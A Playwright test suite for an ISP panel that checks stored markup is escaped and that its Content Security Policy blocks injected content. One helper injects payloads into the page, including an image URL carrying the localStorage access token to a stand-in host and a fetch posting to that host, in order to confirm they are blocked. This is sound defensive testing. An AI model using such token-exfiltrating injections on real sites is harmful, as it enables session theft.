import { randomBytes } from 'node:crypto';
import type { Page } from '@playwright/test';
import { createApi } from './support/api.ts';
import { accounts, expect, test } from './support/fixtures.ts';
import { expectShownAsText, markup, plantOnRouter } from './support/markup.ts';
import { plantEverywhere, simulatedRouter } from './support/planted-markup.ts';
import { settled, signIn } from './support/steps.ts';
import { createSubscribers } from './support/subscribers.ts';

// One after the other: an ISP can have the simulated router once.
test.describe.configure({ mode: 'default' });

/** Puts the markup into the document itself, as a fault of the interface would, and returns the violated directives. */
const injectInto = (page: Page, mark: string): Promise<string[]> =>
  page.evaluate(`new Promise((resolve) => {
    const violated = new Set();
    document.addEventListener('securitypolicyviolation', (event) => {
      violated.add(event.effectiveDirective);
    });
    document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup(mark))});
    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
    add('script', { textContent: 'planted = 1' });
    add('script', { src: 'https://elsewhere.test/script.js' });
    add('iframe', { src: 'https://elsewhere.test/' });
    add('object', { data: 'https://elsewhere.test/' });
    add('style', { textContent: 'body { display: none }' });
    add('img', { src: 'https://elsewhere.test/' + localStorage.getItem('accessToken') });
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.test/' }));
    fetch('https://elsewhere.test/', { method: 'POST', body: 'token' }).catch(() => undefined);
    const wanted = 8;
    const timer = setInterval(() => { if (violated.size >= wanted) finish(); }, 50);
    const finish = () => { clearInterval(timer); clearTimeout(limit); resolve([...violated].sort()); };
    const limit = setTimeout(finish, 20000);
  })`);

test('markup of customers, routers and tickets is text, and the policy stops what would become markup', async ({
  browser,
  request,
}) => {
  test.setTimeout(600_000);
  const mark = `m${randomBytes(4).toString('hex')}`;
  const planted = markup(mark);
  const owner = await createApi(request, accounts.south);
  const { router, home } = await createSubscribers(request, 0, accounts.south);
  const subscriber = await owner.post<{ id: number }>('/api/isp/isp-user/store', {
    customer: { name: planted, mobile: '01990000088', clientType: 'home', language: 'en' },
    ...{
      routerId: router.id,
      packageId: home.id,
      username: mark,
      password: 'secret-of-markup',
      bindMac: false,
    },
    ...{ activate: true, billing: 'normal', billingMode: 'prepaid', billingDay: 1, monthlyDiscountMinor: 0 },
  });
  const { id: ticketId } = await owner.post<{ id: number }>('/api/isp/ticket/create-ticket', {
    ...{ subject: planted, body: `It blinks. ${planted}`, subscriberId: subscriber.id },
  });
  await plantOnRouter({ name: `new-${mark}`, comment: planted });
  const routerId = await simulatedRouter(owner, mark);
  const inRouter = `/api/get-not-billing-users/${routerId}`;
  await expect
    .poll(async () => JSON.stringify(await owner.get(`${inRouter}?search=new-${mark}`)), { timeout: 120_000 })
    .toContain(mark);

  // Of its own: the errors that the policy logs are wanted here.
  const context = await browser.newContext({ baseURL: process.env['PANEL_URL'] ?? '' });
  const page = await context.newPage();
  await signIn(page, accounts.south, `/isp/isp-user-name-list?search=${mark}`);
  await settled(page);
  await expectShownAsText(page, mark);
  for (const path of [
    `/isp/isp-user-name-edit-v2/${subscriber.id}`,
    `/isp/isp-ticket-list?search=${mark}`,
    `/isp/ticket/${ticketId}`,
    `${inRouter}?search=new-${mark}`,
  ]) {
    await page.goto(path);
    await settled(page);
    await expectShownAsText(page, mark);
  }
  const violated = await injectInto(page, mark);
  expect(violated).toEqual(
    expect.arrayContaining([
      'base-uri',
      'connect-src',
      'frame-src',
      'img-src',
      'object-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]),
  );
  expect(await page.evaluate('globalThis.planted')).toBeUndefined();
  await context.close();
});

test('markup of every other source is text on each page that shows it', async ({ browser, request }) => {
  test.setTimeout(900_000);
  const mark = `m${randomBytes(4).toString('hex')}`;
  const planted = await plantEverywhere(request, mark);
  const faulty: string[] = [];
  for (const account of [accounts.south, accounts.admin]) {
    const context = await browser.newContext({ baseURL: process.env['PANEL_URL'] ?? '' });
    const page = await context.newPage();
    await signIn(page, account);
    for (const { source, by = accounts.south, paths } of planted) {
      if (by.login !== account.login) continue;
      for (const path of paths) {
        await page.goto(path);
        await settled(page);
        // All of them, so that one fault does not hide another.
        await expectShownAsText(page, mark).catch((error: unknown) => {
          faulty.push(`${source} on ${path}: ${error}`);
        });
      }
    }
    await context.close();
  }
  expect(faulty).toEqual([]);
});
